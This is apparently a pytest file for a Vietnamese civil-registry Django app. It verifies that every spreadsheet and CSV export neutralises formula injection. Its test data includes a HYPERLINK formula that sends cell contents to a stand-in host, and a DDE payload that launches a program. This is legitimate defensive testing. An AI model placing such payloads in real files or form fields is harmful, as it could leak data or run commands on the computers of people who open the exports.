"""Every spreadsheet export writes people's text as text: never a live formula.

A name keyed or imported as ``=HYPERLINK(…)`` (or a failed login with such a user name)
must reach each file as the same characters in a string cell: no ``<f>`` element in the
sheet XML, and openpyxl reads back exactly what the book says.
"""

import csv
import datetime
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse

from hotich.lib.sheets import csv_field, looks_like_formula, sheet_row

HYPERLINK = '=HYPERLINK("http://example.invalid/?q="&A1,"Xem hồ sơ")'
HOSTILE = [
    HYPERLINK,
    "+84 912 345 678",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


@pytest.fixture(autouse=True)
def _media_in_tmp(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def sheet_texts(content: bytes) -> set[str]:
    """Return every text value of every sheet; assert the file has no formula at all."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, f"formula in {name}"
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    texts = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    return texts


def hostile_entry(book, user, number, name):
    from hotich.registers.services import entry_create

    return entry_create(
        book=book,
        user=user,
        year=2008,
        number=number,
        page=1,
        values={"nksHoTen": name, "noiDangKy": name, "meHoTen": "Lê Thị Hoà"},
    )


@pytest.fixture
def hostile_entries(book, personas):
    return [
        hostile_entry(book, personas["justice_officer"], n, name)
        for n, name in enumerate(HOSTILE, start=1)
    ]


@pytest.mark.parametrize(
    ("value", "formula"),
    [
        ("=1+1", True),
        ("+84", True),
        ("-", True),
        ("@x", True),
        ("\t=1", True),
        ("\r=1", True),
        ("#DIV/0!", True),
        ("Nguyễn Văn A", False),
        ("", False),
        (7, False),
        (None, False),
    ],
)
def test_formula_looking_text_is_recognised(value, formula):
    assert looks_like_formula(value) is formula


def test_a_row_keeps_the_text_exactly_and_leaves_numbers_alone():
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet("x")
    sheet.append(sheet_row(sheet, [*HOSTILE, 12, 1.5, None, "Phượng"]))
    out = io.BytesIO()
    workbook.save(out)
    back = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    values = [c.value for c in next(back.iter_rows())]
    assert values[: len(HOSTILE)] == HOSTILE
    assert values[len(HOSTILE) :] == [12, 1.5, None, "Phượng"]
    assert sheet_texts(out.getvalue()) >= set(HOSTILE)


def stored(entries):
    """Return the names as the book's entries hold them (keying trims surrounding blanks)."""
    names = {e.values["nksHoTen"] for e in entries}
    assert HYPERLINK in names and "=1+1" in names
    return names


def test_the_ministry_and_handover_exports_keep_the_text_as_written(hostile_entries, book):
    from hotich.exchange.exports import handover_workbook, ministry_workbook
    from hotich.registers.models import Entry

    entries = list(Entry.objects.filter(book=book).order_by("number"))
    ministry = ministry_workbook(book=book, entries=entries)
    assert sheet_texts(ministry) >= stored(hostile_entries)
    data = openpyxl.load_workbook(io.BytesIO(ministry))["DL Import"]
    header = [str(c.value).split("\n")[0].strip() for c in data[1]]
    names = [row[header.index("nksHoTen")] for row in data.iter_rows(min_row=2, values_only=True)]
    assert names == [e.values["nksHoTen"] for e in entries]
    handover = handover_workbook(book=book, entries=entries)
    # The handover file writes names in capitals, as the registry does.
    assert sheet_texts(handover) >= {HYPERLINK.upper(), "+84 912 345 678", "-"}


def test_the_tracking_list_export_has_no_formula(hostile_entries, units, personas, login):
    from hotich.reconciliation.models import TrackingCase

    TrackingCase.objects.create(
        entry=hostile_entries[0],
        role="subject",
        commune=units["commune"],
        full_name=HYPERLINK,
        procedure="@SUM(1)",
    )
    response = login(personas["justice_officer"]).get(reverse("tracking_export"))
    assert response.status_code == 200
    assert {HYPERLINK, "@SUM(1)"} <= sheet_texts(response.content)


@pytest.mark.django_db(transaction=True)
def test_a_failed_login_with_a_formula_user_name_does_not_poison_the_audit_export(client, personas):
    from hotich.jobs.services import exports_dir
    from hotich.oversight.tasks import audit_export

    response = client.post(reverse("login"), {"username": HYPERLINK, "password": "sai"})
    assert response.status_code == 200
    result = audit_export.call(filters={}, user_id=personas["administrator"].pk)
    content = (exports_dir() / result["file"]).read_bytes()
    assert HYPERLINK in sheet_texts(content)


def test_the_campaign_tables_and_the_report_appendix_have_no_formula():
    from hotich.campaigns.tables import Column, Table, table_workbook

    table = Table(
        key="t",
        title="Bảng",
        columns=[Column("Xã"), Column("Số", numeric=True)],
        rows=[[HYPERLINK, 3], ["-", 0]],
    )
    content = table_workbook(
        table, heading="=1+1", generated=datetime.datetime(2026, 1, 2, 8, 0, tzinfo=datetime.UTC)
    )
    assert {HYPERLINK, "-", "=1+1"} <= sheet_texts(content)


def test_the_import_error_report_has_no_formula(book, tmp_path):
    from hotich.exchange.exports import ministry_workbook
    from hotich.exchange.models import ImportRun
    from hotich.registers.models import Entry
    from hotich.registers.services import entry_create

    entry_create(
        book=book,
        user=None,
        year=2008,
        number=9,
        values={"nksHoTen": HYPERLINK, "nksNgaySinh": "31/04/2008", "nksGioiTinh": "9"},
    )
    path = tmp_path / "ks.xlsx"
    path.write_bytes(ministry_workbook(book=book, entries=list(Entry.objects.all())))
    Entry.objects.all().delete()
    out = io.StringIO()
    call_command("import", str(path), "--book", str(book.pk), "--no-reconcile", stdout=out)
    run = ImportRun.objects.get()
    assert run.report, out.getvalue()
    assert HYPERLINK in sheet_texts(Path(run.report.path).read_bytes())


def test_csv_fields_that_a_spreadsheet_would_evaluate_are_quoted():
    out = io.StringIO()
    csv.writer(out).writerow([csv_field(v) for v in [*HOSTILE, "An", 5]])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row[: len(HOSTILE) - 1] == ["'" + v for v in HOSTILE[:-1]]
    assert row[len(HOSTILE) - 1 :] == ["#N/A", "An", "5"]


def test_the_registry_load_error_file_has_no_formula(tmp_path, db):
    extract = tmp_path / "dan-cu.csv"
    extract.write_text(
        "personal_id,full_name,sex,birth_date\n"
        "038090004321,Nguyễn Văn An,Nam,1990-01-02\n"
        "038208004322,=HYPERLINK(1),@x,31/02/1990\n",
        encoding="utf-8",
    )
    errors = tmp_path / "loi.csv"
    call_command("registry_load", str(extract), "--errors", str(errors), verbosity=0)
    rows = list(csv.reader(errors.open(encoding="utf-8")))
    assert len(rows) > 1
    for row in rows[1:]:
        assert not any(looks_like_formula(v) and not v.startswith("'") for v in row), row
